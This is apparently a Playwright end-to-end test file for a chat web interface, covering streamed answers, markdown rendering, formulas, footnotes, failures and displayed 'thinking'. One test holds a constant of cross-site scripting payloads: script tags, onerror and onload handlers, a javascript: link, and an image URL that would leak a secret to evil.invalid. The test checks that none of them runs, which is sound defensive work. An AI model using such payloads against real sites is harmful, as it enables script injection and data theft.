"""What an answer looks like while and after it is written; and that it can do no harm."""

import base64
import re
from typing import Any

from playwright.sync_api import expect

from local.stack import Stack
from tests.e2e.app import ANSWER_MS, SIGN_IN_MS, App
from tests.e2e.people import User, agent_of
from tests.e2e.pictures import png
from tests.e2e.wire import Wire

HOSTILE = (
    '<script>window.harmed = 1</script><img src="x" onerror="window.harmed = 2"> '
    "[click](javascript:window.harmed=3) <svg onload=window.harmed=4> ![seen](https://evil.invalid/?q=secret)"
)
# The length of the answer each time it is drawn anew.
WATCH_GROWTH = """() => {
  window.growth = [];
  new MutationObserver(() => {
    const length = document.querySelector('[data-role="assistant"] .markdown')?.textContent.length ?? 0;
    if (length !== window.growth.at(-1)) window.growth.push(length);
  }).observe(document.body, { subtree: true, childList: true, characterData: true });
}"""


def test_an_answer_is_drawn_as_it_is_written(chat: App) -> None:
    """Text grows word by word, screen readers are told to wait, and the end is marked."""
    log = chat.by("log")
    chat.page.evaluate(WATCH_GROWTH)
    chat.send("count to 120")
    answer = chat.streaming()
    expect(log).to_have_attribute("aria-busy", "true")
    expect(answer.get_by_test_id("activity")).to_have_text("Writing")
    done = chat.answered("119 120")
    growth = chat.page.evaluate("window.growth")
    assert len(growth) >= 10, "the answer did not come as a stream"
    assert growth == sorted(growth)
    expect(log).to_have_attribute("aria-busy", "false")
    expect(log).to_have_attribute("role", "log")
    expect(done.get_by_test_id("activity")).to_have_count(0)


def test_markdown_becomes_what_it_means(chat: App) -> None:
    """Headings, tables, lists, quotes, links; code in colour, with its language and a copy button."""
    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    answer = chat.ask("show the long sample, fast", "The end of the long sample.")
    expect(answer.locator("table")).to_have_count(15)
    expect(answer.locator("table").first.locator("th")).to_have_text(["hour", "°C", "sky"])
    expect(answer.locator("h3").first).to_have_text("Fifteen stations")
    expect(answer.locator("ol").first.locator("li")).to_have_text(["calibrate", "record", "compare"])
    expect(answer.locator("del").first).to_have_text("1")
    expect(answer.locator("blockquote").first).to_contain_text("A note on Seoul")
    expect(answer).to_contain_text("<gusts to 21 km/h>")
    link = answer.get_by_role("link", name="archive").first
    expect(link).to_have_attribute("rel", "noopener noreferrer")

    block = answer.locator(".code").first
    expect(block.locator(".code-lang")).to_have_text("python")
    expect(block.locator(".hljs-keyword").first).to_have_text("def")
    block.get_by_role("button", name="Copy code").click()
    expect(block.get_by_role("button", name="Copied")).to_be_visible()
    copied = chat.page.evaluate("navigator.clipboard.readText()")
    assert copied == block.locator("code").inner_text()
    assert copied.startswith("def station_1(")


def test_formulas_footnotes_and_pictures_are_for_reading(chat: App) -> None:
    """KaTeX is loaded by the first formula, under the page's own policy (the fixture fails on a violation)."""
    dot = "data:image/png;base64," + base64.b64encode(png(40, 30)).decode()
    chat.send(f"say: Euler[^1] wrote $e^{{i\\pi}} + 1 = 0$. ![dot]({dot})⏎⏎[^1]: In the *Introductio*.")
    answer = chat.answers.last
    expect(answer.locator(".katex").first).to_be_visible(timeout=30_000)
    expect(answer.locator(".katex-error")).to_have_count(0)
    answer.get_by_role("button", name="Footnote 1").click()
    expect(answer.locator('[data-note="1"]')).to_be_focused()
    answer.get_by_test_id("picture").click()
    expect(chat.by("lightbox").locator("img")).to_be_visible()
    chat.page.keyboard.press("Escape")
    expect(chat.by("lightbox")).to_have_count(0)


def test_what_the_model_says_is_never_run_or_fetched(chat: App) -> None:
    """The demo says the line back: HTML stays text, a script link is none, a remote image is asked for first."""
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    answer = chat.ask(HOSTILE, "onerror=")
    expect(answer).to_contain_text("<script>window.harmed = 1</script>")
    expect(answer.locator("script, img, svg[onload], iframe")).to_have_count(0)
    expect(answer.locator("a")).to_have_count(0)
    expect(answer.get_by_role("button", name="Show the image from evil.invalid")).to_be_visible()
    assert chat.page.evaluate("window.harmed") is None
    assert not [url for url in asked if "evil" in url]


def test_a_question_is_shown_as_it_was_typed(chat: App) -> None:
    chat.ask("**not bold**\n\n  indented & <b>", "You wrote")
    question = chat.questions.first
    expect(question.locator("strong, b")).to_have_count(0)
    assert question.locator(".user-text").inner_text() == "**not bold**\n\n  indented & <b>"


def test_a_failed_answer_says_why(app: App, user: User, stack: Stack) -> None:
    """And does not block what is asked next. With an agent of its own: its next tries would meet other tests."""
    with agent_of(stack, user):
        app.sign_in(user)
        expect(app.answers).to_have_count(1)  # of the question that woke the agent
        app.send("fail with a provider error")
        failed = app.messages("assistant", "error")
        expect(failed.get_by_role("alert")).to_have_text(re.compile("^The answer failed: ."), timeout=ANSWER_MS)
        expect(failed.get_by_test_id("try-again")).to_be_visible()
        app.send("2+2")
        expect(app.messages("assistant", "done").nth(1)).to_contain_text("2+2 = 4", timeout=ANSWER_MS)


def reload_with(chat: App, change: dict[str, Any]) -> None:
    """Loads the page anew, with the last row of the conversation changed on its way there."""
    address = f"**/conversations/{chat.conversation_id}?*"
    with chat.page.expect_response(address) as read:
        chat.reload()
    page = read.value.json()
    page["messages"][-1] |= change
    chat.page.route(address, lambda route: route.fulfill(json=page))
    chat.reload()


def test_what_the_model_thinks_is_folded_and_kept(chat: App) -> None:
    """While it thinks, with the answer, and after a reload. The demo does not think: frames and row are ours."""
    chat.ask("2+3", "2+3 = 5")
    wire = Wire(chat.page)
    reload_with(chat, {"thinking": {"text": "Two and three.\nSo five.", "cut": True}})
    kept = chat.messages("assistant", "done").get_by_test_id("thinking")
    expect(kept.locator("pre")).to_be_hidden(timeout=SIGN_IN_MS)
    kept.locator("summary").press("Enter")
    expect(kept).to_contain_text("Two and three.\nSo five.", use_inner_text=True)
    expect(kept).to_contain_text("It thought for longer")
    key = {"runId": "t.1", "replyTo": "t", "conversationId": chat.conversation_id}
    wire.say({"type": "thinking", **key, "text": "<b>Hm</b>"})
    live = chat.messages("assistant").last
    expect(live.get_by_test_id("thinking").locator("pre")).to_have_text("<b>Hm</b>")
    expect(live.get_by_test_id("activity")).to_have_text("Thinking…")
    end = {"type": "stream_end", **key, "seq": 1, "messageId": "t.answer", "reason": "final", "length": 0}
    wire.say(end | {"thinking": {"text": "Hm, yes.", "hidden": True}})
    expect(live.get_by_test_id("thinking").locator("pre")).to_have_text("Hm, yes.")
    expect(live.get_by_test_id("thinking")).to_contain_text("Its provider does not show a part of this.")


def test_an_answer_without_text_says_so(chat: App) -> None:
    """OpenClaw may end a turn in silence. The row of an answer is emptied on its way to the page here."""
    chat.ask("2+3", "2+3 = 5")
    reload_with(chat, {"content": ""})
    silent = chat.messages("assistant", "done")
    expect(silent.get_by_test_id("note")).to_have_text("The agent gave no text.", timeout=SIGN_IN_MS)


def test_a_saved_failure_says_why_after_a_reload_and_can_be_tried_again(chat: App) -> None:
    """The new answer takes its place. The row of the failed one is given to the real page of history here."""
    chat.ask("2+3", "2+3 = 5")
    error = {"code": "PROVIDER_ERROR", "message": "the key was refused"}
    reload_with(chat, {"content": "", "reason": "error", "error": error})
    failed = chat.messages("assistant", "error")
    expect(failed.get_by_role("alert")).to_have_text("The answer failed: the key was refused", timeout=SIGN_IN_MS)
    failed.get_by_test_id("try-again").click()
    chat.answered("2+3 = 5")
    expect(chat.questions.locator(".user-text")).to_have_text(["2+3"])
    chat.by("version-before").click()
    expect(failed.get_by_role("alert")).to_be_visible()
